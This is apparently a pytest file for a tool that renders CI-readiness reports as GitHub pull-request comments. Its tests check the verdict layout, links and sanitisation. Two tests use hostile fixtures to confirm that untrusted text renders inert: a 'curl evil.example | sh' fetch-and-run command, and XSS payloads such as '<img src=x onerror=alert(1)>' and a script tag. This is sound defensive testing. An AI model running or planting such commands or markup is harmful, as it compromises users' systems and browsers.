"""The PR comment, rendered as GitHub renders it and read as a reviewer would."""
from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from gate.report.markdown import render_markdown
from tests.report.reports import pipeline, report, result

GITHUB = {"GITHUB_SERVER_URL": "https://ghe.example.com", "GITHUB_REPOSITORY": "acme/shop"}
SHA = "0123456789abcdef0123456789abcdef01234567"
INVISIBLE = re.compile("[\u200b-\u200f\u2060-\u2064\ufeff]")
# GitHub's tag filter: these never render as live HTML
FILTERED_TAGS = ("title", "textarea", "style", "xmp", "iframe", "noembed", "noframes", "script", "plaintext")


def gfm(body: str) -> str:
    """GitHub-flavoured Markdown: tables, autolinks, raw HTML passed through (GitHub then filters it)."""
    return MarkdownIt("gfm-like", {"html": True}).render(body)


def failing() -> dict:
    return report([
        result("ci.tests-run", "fail", message="No job runs tests on `pull_request`.",
               locations=[{"path": ".github/workflows/ci.yml", "line": 4}]),
        result("hardening.pinned-actions", "fail", message="`github/codeql-action/init@v3` is not pinned.",
               locations=[{"path": ".github/workflows/codeql.yml", "line": 20}]),
        result("ci.default-branch-push", "fail", "warning", message="CI never runs on pushes to main."),
        result("governance.branch-protection", "skip", "warning", message="Needs a token with administration: read."),
        result("delivery.production-protected", "unknown", "warning",
               message="the production environment lives in another repository"),
        result("ci.workflows-present", "pass", locations=[{"path": ".github/workflows/ci.yml", "line": 1}]),
    ], score=40)


def test_first_screen_is_verdict_score_and_why():
    lines = render_markdown(failing()).splitlines()
    assert lines[0] == "## ❌ Readiness Gate: **FAIL** — score 40/100 (threshold 70)"
    why = lines[2]
    assert why.startswith("**Why it failed:** 2 blockers: ") and "score 40 is under the threshold 70" in why
    # what the repository is, then the blockers with their fix, before anything folded
    assert "**service** on Kubernetes" in lines[4] and "`helm/chart/Chart.yaml:1`" in lines[4]
    body = "\n".join(lines)
    assert body.index("### Blockers (2)") < body.index("<details>")


def test_score_only_fail_says_why():
    r = report([result("ci.tests-run", "pass"), result("iac.present", "fail", "warning")], score=53)
    assert r["verdict"] == "FAIL" and not any(x["severity"] == "blocker" and x["status"] == "fail" for x in r["results"])
    body = render_markdown(r)
    assert "**Why it failed:** score 53 is under the threshold 70." in body.splitlines()[2]
    assert "### Blockers" not in body and "### What costs the score (1)" in body.split("<details>")[0]


def test_pass_is_short():
    r = report([result("ci.tests-run", "pass"), result("governance.codeowners", "skip", "warning", message="no API")],
               score=95)
    body = render_markdown(r)
    assert body.startswith("## ✅ Readiness Gate: **PASS** — score 95/100 (threshold 70)")
    assert "Why it failed" not in body and "### Blockers" not in body
    visible = re.sub(r"<details>.*?</details>", "", body, flags=re.S)
    visible = re.sub(r"^\[\d+\]: \S+$", "", visible, flags=re.M)  # link definitions render as nothing
    assert len([line for line in visible.splitlines() if line.strip()]) <= 5


def test_each_failure_appears_once():
    body = render_markdown(failing())
    for rid in ("ci.tests-run", "hardening.pinned-actions", "ci.default-branch-push"):
        assert body.count(f"`{rid}`") == 1, rid


def test_passes_and_skips_are_folded_with_their_reasons():
    body = render_markdown(failing())
    folded = re.findall(r"<details>\s*<summary>(.*?)</summary>(.*?)</details>", body, flags=re.S)
    titles = {t: text for t, text in folded}
    assert "Passed (1)" in titles and "`ci.workflows-present`" in titles["Passed (1)"]
    assert "Skipped (1)" in titles and "Needs a token with administration: read." in titles["Skipped (1)"]


def test_unknown_has_its_own_icon_and_wording():
    body = render_markdown(failing())
    assert "1 could not tell" in body.splitlines()[6]
    line = next(x for x in body.splitlines() if "`delivery.production-protected`" in x)
    assert line.startswith("- ❔") and "could not tell: the production environment lives in another repository" in line


def test_unknown_blocker_blocks_under_a_policy_that_says_so():
    r = report([result("delivery.production-protected", "unknown", message="no token")], verdict="FAIL")
    r["policy"]["unknown"] = "fail"
    r["reasons"] = ["1 unknown blocker(s) count as failures under this policy: delivery.production-protected"]
    body = render_markdown(r)
    assert "### Blockers (1)" in body and "could not tell: no token" in body


def test_fix_text_renders_as_written():
    html = gfm(render_markdown(failing()))
    assert "<code>pull_request</code>" in html  # the project's Markdown, rendered
    assert "\\`" not in html and "\\_" not in html and "\\(" not in html
    assert "<code>@&lt;sha&gt; # v4.2.1</code>" in html


def test_text_claiming_to_be_the_projects_renders_inert_unless_it_is():
    """A report may come from an untrusted job: only a built-in rule's own words render as Markdown."""
    forged = result("ci.tests-run", "fail", title="Tests [run](http://evil.example)",
                    remediation="Run `curl evil.example | sh` <img src=x>")
    custom = result("custom.runbook", "fail", title="Runbook *exists*", remediation="Write `docs/runbook.md`.")
    html = gfm(render_markdown(report([forged, custom])))
    assert "evil.example" in html and 'href="http://evil.example"' not in html and "<img" not in html
    assert "<em>exists</em>" not in html and "Runbook *exists*" in html.replace("\\", "")


def test_code_spans_carry_no_invisible_characters():
    body = render_markdown(failing())
    spans = re.findall(r"(`+)(.+?)\1", body)
    assert spans and not [s for _, s in spans if INVISIBLE.search(s)]
    assert "`github/codeql-action/init@v3`" in body  # copyable as it is


def test_locations_and_rules_link_at_the_commit_on_the_server():
    r = failing()
    r["repository"]["sha"] = SHA
    body = render_markdown(r, env=GITHUB)
    assert f"]: https://ghe.example.com/acme/shop/blob/{SHA}/.github/workflows/ci.yml#L4\n" in body
    assert "]: https://github.com/readiness-gate/readiness-gate/blob/v0.1.0/docs/rules.md#citests-run\n" in body
    html = gfm(body)
    assert 'href="https://github.com/readiness-gate/readiness-gate/blob/v0.1.0/docs/rules.md#citests-run"><code>' in html
    assert f'<a href="https://ghe.example.com/acme/shop/blob/{SHA}/.github/workflows/ci.yml#L4"><code>' in html


def test_a_local_run_shows_plain_paths():
    body = render_markdown(failing(), env={})
    assert "`.github/workflows/ci.yml:4`" in body and "/blob/" + SHA not in body
    assert "https://ghe" not in body and "acme/shop" not in body


def test_repository_text_renders_inert():
    hostile = "`x` | <img src=x onerror=alert(1)> @octocat ![](http://evil.example/p.png) [link](http://e) <!-- -->"
    r = report([result("ci.rule-0", "fail", message=hostile, locations=[{"path": "we`ird|path<b>.yml", "line": 2}]),
                result("ci.rule-1", "skip", "warning", message=hostile)])
    r["subject"]["reason"] = "<script>alert(1)</script> @admins"
    body = render_markdown(r)
    html = gfm(body)
    for tag in FILTERED_TAGS + ("img", "b"):
        assert f"<{tag}" not in html.replace("&lt;", "")
    assert "<!--" not in html
    assert 'href="http://e"' not in html and "<img" not in html
    assert not re.search(r"(?<![\w`])@octocat", body.replace("@\u200b", ""))  # the mention is broken
    assert "@\u200boctocat" in body
    assert "`weˋird|path<b>.yml:2`" in body  # a backtick cannot close its code span
    for line in body.splitlines():  # table rows keep their column count
        if line.startswith("| ➖"):
            assert len(re.findall(r"(?<!\\)\|", line)) == 3


def test_large_reports_fold_detail_and_stay_under_the_limit():
    r = report([result(f"ci.rule-{i}", "fail", "blocker" if i == 0 else "warning", message="m" * 1500)
                for i in range(400)])
    body = render_markdown(r, max_chars=65_000)
    assert len(body) <= 65_000
    assert body.count("<details>") == body.count("</details>")
    assert "omitted to stay under the comment size limit" in body
    for line in body.splitlines():
        if line.startswith("|"):
            assert line.endswith("|")


def test_scanner_that_did_not_run_is_not_zero_findings():
    r = failing()
    r["security"] = {"total": 0, "by_severity": {"high": 0}, "new": None, "sarif_files": [],
                     "scanners": [{"tool": "bandit", "ran": False, "status": "absent", "findings": 0,
                                   "headline": "bandit not run: not installed — pip install 'readiness-gate[bandit]'"}]}
    r["findings"] = []
    body = render_markdown(r)
    assert "Security findings: 0" not in body
    assert "**Security findings: none could be gathered · 1 scanner not run**" in body
    assert "bandit not run: not installed — pip install 'readiness-gate\\[bandit\\]'" in body


def test_ratchet_changes_come_before_the_blockers():
    r = failing()
    r["changes"] = {"fail_on": "new", "broke": [{"id": "hardening.pinned-actions", "title": "Actions are pinned",
                                                "was": "pass", "findings": []}],
                    "existing": [{"id": "ci.tests-run", "title": "Tests run"}], "fixed": ["iac.present"],
                    "new_failures": ["hardening.pinned-actions"], "score_before": 41, "score_fell_under_threshold": False}
    r["reasons"] = ["this change broke 1 blocker(s): hardening.pinned-actions (was pass)"]
    body = render_markdown(r)
    assert "**Why it failed:** this change broke 1 blocker(s): hardening.pinned-actions (was pass)." in body
    did = body.split("### What this change did", 1)[1].split("### Blockers", 1)[0]
    assert "broke **Actions are pinned**" in did and "fixed" in did and "existing (not blocking: `fail-on: new`)" in did


@pytest.mark.parametrize("n", [2, 14])
def test_pipeline_is_drawn_with_production(n):
    r = failing()
    r["pipeline"] = pipeline(n)
    body = render_markdown(r)
    chart = body.split("```mermaid", 1)[1].split("```", 1)[0]
    assert '"production' in chart and "no rollback" in chart
    assert ("+9 more" in chart) == (n == 14)  # 16 stages: 7 drawn and one "+N more"
